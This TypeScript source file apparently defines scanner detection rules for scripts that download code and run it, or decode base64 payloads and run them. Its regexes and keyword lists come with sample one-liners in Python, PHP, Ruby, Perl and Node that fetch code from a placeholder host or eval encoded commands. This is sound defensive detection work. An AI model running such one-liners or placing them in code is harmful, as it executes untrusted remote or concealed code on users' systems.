import type { Rule } from '../../rule.ts';
import { expression } from '../boundary.ts';
import { PIPE_TO_SHELL } from './format.ts';

/** Downloads that a script runs. */
export const SCRIPT_DOWNLOAD_RULES: readonly Rule[] = [
  {
    ...PIPE_TO_SHELL,
    id: 'script_download_executed',
    confidence: 'high',
    keywords: [
      ...[
        'urlopen(',
        'requests.get(',
        'urllib',
        'file_get_contents(',
        'uri.open(',
        'eval(get(',
        'eval open',
        'eval get',
      ],
      ...['then(eval)', 'eval(d.', 'eval(data'],
      'httpx.get(',
    ],
    expression: expression(
      'gi',
      '(?:',
      [
        String.raw`(?<![A-Za-z0-9_.])(?:exec|eval|system)[ (][\s\\"'(]{0,6}(?:__import__\([^)\r\n]{1,20}\)\.|compile\()?[A-Za-z_.]{0,40}(?:urlopen|requests\.get|httpx\.get)\([^\r\n]{3,160}`,
        String.raw`(?<![A-Za-z0-9_.])(?:eval|system|passthru|assert)[ \t(]{1,6}(?:get|open|URI\.open|file_get_contents)[ (]{1,3}\\{0,3}["']https?://[^\r\n]{3,160}`,
        String.raw`(?:fetch|https?["'\\]{1,4}\)\.get)\(\\{0,3}["'\x60]https?://[^\r\n]{3,160}?(?:\.then\(eval\)|\beval\(d(?:ata)?[.)])`,
      ].join('|'),
      ')',
    ),
    reach: { before: 230, after: 240 },
    describes: 'A script that fetches a program and runs it from memory.',
    get finds() {
      return [
        'python3 -c "import urllib.request as u;exec(u.urlopen(\'http://x.example/a\').read())"',
        'exec(requests.get("http://x.example/a").text)',
        "eval(urllib.request.urlopen('http://x.example').read())",
        'php -r \'eval(file_get_contents("http://x.example/a"));\'',
        'ruby -ropen-uri -e \'eval(URI.open("http://x.example/a").read)\'',
        'perl -MLWP::Simple -e \'eval(get("http://x.example/a"))\'',
        'node -e "fetch(\'http://x.example/a\').then(r=>r.text()).then(eval)"',
      ];
    },
    get ignores() {
      return ['data = urlopen(url).read()', 'json.loads(requests.get(url).text)', 'cursor.exec(urlopen)'];
    },
  },
  {
    ...PIPE_TO_SHELL,
    id: 'script_decoded_executed',
    confidence: 'medium',
    source: 'https://attack.mitre.org/techniques/T1027/010/',
    keywords: [
      'b64decode(',
      'decode_base64(',
      'base64_decode(',
      "base64').to",
      'base64").to',
      'base64\\").to',
      'eval(atob(',
      'atob "',
      "atob '",
      'b64decode "',
      "b64decode '",
      'buffer.from "',
      "buffer.from '",
      'base64 "',
      "base64 '",
      'base64_decode "',
      "base64_decode '",
    ],
    expression: expression(
      'gi',
      String.raw`(?<![A-Za-z0-9_.])(?:exec|eval|system|assert)[ \t(]{1,6}(?:__import__\(\\{0,3}["']base64\\{0,3}["']\)\.|base64\.)?(?:b64decode|decode_base64|base64_decode|Buffer\.from|atob)[ (]{1,3}b?\\{0,3}["'][A-Za-z0-9+/=_-]{12,400}[^\r\n]{0,60}`,
    ),
    reach: { before: 500, after: 500 },
    describes: 'A script that runs what it decodes, so that nobody reads it.',
    get finds() {
      return [
        'python3 -c "import base64;exec(base64.b64decode(\'aW1wb3J0IG9zO29zLnN5c3RlbSgnaWQnKQ==\'))"',
        'perl -MMIME::Base64 -e \'eval decode_base64("c3lzdGVtKCdpZCcp")\'',
        "node -e \"eval(Buffer.from('cmVxdWlyZSgnY2hpbGRfcHJvY2Vzcycp','base64').toString())\"",
        'php -r \'eval(base64_decode("c3lzdGVtKCdpZCcp"));\'',
      ];
    },
    get ignores() {
      return [
        "base64.b64decode('aW1wb3J0IG9zO29z')",
        'eval(atob(name))',
        "Buffer.from('cmVxdWlyZSgnY2hpbGRf','base64').toString()",
      ];
    },
  },
];
